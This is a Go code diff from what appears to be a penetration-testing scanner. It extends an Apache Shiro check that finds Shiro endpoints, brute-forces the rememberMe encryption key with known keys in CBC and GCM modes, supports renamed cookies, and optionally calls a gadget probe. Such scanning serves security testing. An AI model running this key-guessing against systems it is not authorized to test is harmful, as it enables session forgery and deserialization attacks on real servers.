@@ -5,16 +5,19 @@ import (
 	"crypto/aes"
 	"crypto/cipher"
 	"crypto/rand"
+	"dddd/common/uncover"
 	"dddd/ddout"
 	"dddd/structs"
 	_ "embed"
 	"encoding/base64"
 	"fmt"
 	"github.com/projectdiscovery/gologger"
+	"github.com/projectdiscovery/nuclei/v3/pkg/output"
 	"github.com/projectdiscovery/retryablehttp-go"
 	uuid "github.com/satori/go.uuid"
 	"io"
 	"math/big"
+	"regexp"
 	"strings"
 )
 
@@ -36,16 +39,14 @@ func Randcase(len int) string {
 	return container
 }
 
-func sendShiroRequest(url string, data string) bool {
+func sendShiroRequest(client *retryablehttp.Client, url string, cookieName string, data string) bool {
 	req, err := retryablehttp.NewRequest("GET", url, nil)
 	if err != nil {
 		return false
 	}
-	opts := retryablehttp.DefaultOptionsSpraying
-	client := retryablehttp.NewClient(opts)
 
 	req.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/71.0.3578.98 Safari/537.36")
-	req.Header.Set("Cookie", "JSESSIONID="+Randcase(8)+";rememberMe="+data)
+	req.Header.Set("Cookie", "JSESSIONID="+Randcase(8)+";"+cookieName+"="+data)
 
 	resp, err := client.Do(req)
 	if err != nil {
@@ -58,11 +59,82 @@ func sendShiroRequest(url string, data string) bool {
 		SetCookieAll += resp.Header["Set-Cookie"][i]
 	}
 
-	return !strings.Contains(SetCookieAll, "rememberMe=deleteMe;")
+	return !strings.Contains(SetCookieAll, cookieName+"=deleteMe;")
 }
 
-func checkShiro(url string) bool {
-	return sendShiroRequest(url, "123")
+func checkShiro(client *retryablehttp.Client, url string, cookieName string) bool {
+	return sendShiroRequest(client, url, cookieName, "123")
+}
+
+var shiroDeleteMeRe = regexp.MustCompile(`(?i)set-cookie:\s*([^=;\s]+)=deleteMe`)
+
+// shiroCookieNames 从Web探测保存的响应头中找出返回 deleteMe 的Cookie名，rememberMe 可以在配置中改名
+func shiroCookieNames(u string) []string {
+	var names []string
+	structs.GlobalURLMapLock.Lock()
+	for rootURL, urlEntity := range structs.GlobalURLMap {
+		if !strings.HasPrefix(u, rootURL) {
+			continue
+		}
+		for _, pathEntity := range urlEntity.WebPaths {
+			if structs.GlobalHttpHeaderHMap == nil || pathEntity.HeaderHashString == "" {
+				continue
+			}
+			header, ok := structs.GlobalHttpHeaderHMap.Get(pathEntity.HeaderHashString)
+			if !ok {
+				continue
+			}
+			for _, m := range shiroDeleteMeRe.FindAllStringSubmatch(string(header), -1) {
+				names = append(names, m[1])
+			}
+		}
+	}
+	structs.GlobalURLMapLock.Unlock()
+	return removeDuplicateKeepOrder(append(names, "rememberMe"))
+}
+
+// shiroTargets 需要枚举Key的URL：nuclei shiro-detect、Shiro指纹、响应头中存在 deleteMe 的Web
+func shiroTargets(nucleiResults []output.ResultEvent) []string {
+	var targets []string
+	for _, result := range nucleiResults {
+		if result.TemplateID == "shiro-detect" {
+			targets = append(targets, result.Matched)
+		}
+	}
+	for u, fingers := range structs.GlobalResultMap {
+		if !strings.HasPrefix(u, "http") {
+			continue
+		}
+		for _, finger := range fingers {
+			if strings.Contains(strings.ToLower(finger), "shiro") {
+				targets = append(targets, u)
+				break
+			}
+		}
+	}
+	structs.GlobalURLMapLock.Lock()
+	for rootURL, urlEntity := range structs.GlobalURLMap {
+		for pth, pathEntity := range urlEntity.WebPaths {
+			if structs.GlobalHttpHeaderHMap == nil || pathEntity.HeaderHashString == "" {
+				continue
+			}
+			header, ok := structs.GlobalHttpHeaderHMap.Get(pathEntity.HeaderHashString)
+			if ok && shiroDeleteMeRe.Match(header) {
+				targets = append(targets, rootURL+pth)
+			}
+		}
+	}
+	structs.GlobalURLMapLock.Unlock()
+	// 同一个URL可能同时被多个来源命中，主机名无法解析的域名绑定资产无法访问
+	var result []string
+	for _, target := range targets {
+		if _, _, ok := uncover.HostBindURL(target); ok {
+			gologger.AuditTimeLogger("[Go] [Shiro] 主机名无法解析，跳过: %s", target)
+			continue
+		}
+		result = append(result, strings.TrimSuffix(target, "/"))
+	}
+	return removeDuplicateKeepOrder(result)
 }
 
 func Padding(plainText []byte, blockSize int) []byte {
@@ -97,30 +169,26 @@ func AESGCMEncrypt(key []byte, Content []byte) (string, error) {
 	return base64.StdEncoding.EncodeToString(append(nonce, ciphertext...)), nil
 }
 
-func checkKey(url string, shiroKey string, content []byte) (bool, string) {
+func shiroEncrypt(key []byte, content []byte, mode string) (string, error) {
+	if mode == "gcm" {
+		return AESGCMEncrypt(key, content)
+	}
+	return AESCBCEncrypt(key, content)
+}
+
+func checkKey(client *retryablehttp.Client, url string, cookieName string, shiroKey string, content []byte) (bool, string) {
 	keyDecrypt, _ := base64.StdEncoding.DecodeString(shiroKey)
 
-	RememberMe, err := AESCBCEncrypt(keyDecrypt, content)
-	if err != nil {
-		return false, ""
-	}
-	ok := sendShiroRequest(url, RememberMe)
-	if ok {
-		// 确认一次，减少误报
-		if sendShiroRequest(url, RememberMe) {
-			return true, "cbc"
+	for _, mode := range []string{"cbc", "gcm"} {
+		RememberMe, err := shiroEncrypt(keyDecrypt, content, mode)
+		if err != nil {
+			return false, ""
 		}
-	}
-
-	RememberMe, err = AESGCMEncrypt(keyDecrypt, content)
-	ok = sendShiroRequest(url, RememberMe)
-	if err != nil {
-		return false, ""
-	}
-	if ok {
-		// 确认一次，减少误报
-		if sendShiroRequest(url, RememberMe) {
-			return true, "gcm"
+		if sendShiroRequest(client, url, cookieName, RememberMe) {
+			// 确认一次，减少误报
+			if sendShiroRequest(client, url, cookieName, RememberMe) {
+				return true, mode
+			}
 		}
 	}
 
@@ -130,10 +198,18 @@ func checkKey(url string, shiroKey string, content []byte) (bool, string) {
 
 func ShiroKeyCheck(info *structs.HostInfo) {
 	url := info.Url
+	client := newHTTPClient()
 
 	// 不是shiro目标
 	gologger.AuditTimeLogger("[Go] [Shiro] detect shiro %v", url)
-	if checkShiro(url) {
+	cookieName := ""
+	for _, name := range shiroCookieNames(url) {
+		if !checkShiro(client, url, name) {
+			cookieName = name
+			break
+		}
+	}
+	if cookieName == "" {
 		return
 	}
 
@@ -142,11 +218,11 @@ func ShiroKeyCheck(info *structs.HostInfo) {
 	ks := strings.Split(t, "\n")
 	for _, key := range ks {
 		gologger.AuditTimeLogger("[Go] [Shiro] try %v key: %v", url, key)
-		ok, tp := checkKey(url, key, content)
+		ok, tp := checkKey(client, url, cookieName, key, content)
 		if ok && tp != "" {
 			// gologger.Silent().Msgf("%v [%v] [%v]", url, key, tp)
 
-			showData := fmt.Sprintf("Host: %v\nkey: %v\nmode: %v\n", url, key, tp)
+			showData := fmt.Sprintf("Host: %v\nkey: %v\nmode: %v\ncookie: %v\n", url, key, tp, cookieName)
 
 			ddout.FormatOutput(ddout.OutputMessage{
 				Type:     "GoPoc",
@@ -175,6 +251,10 @@ func ShiroKeyCheck(info *structs.HostInfo) {
 				InfoRight:   "",
 				Description: "shiro Key",
 			})
+
+			if structs.GlobalConfig.ShiroGadget {
+				shiroGadgetProbe(client, url, cookieName, key, tp)
+			}
 			break
 		}
 	}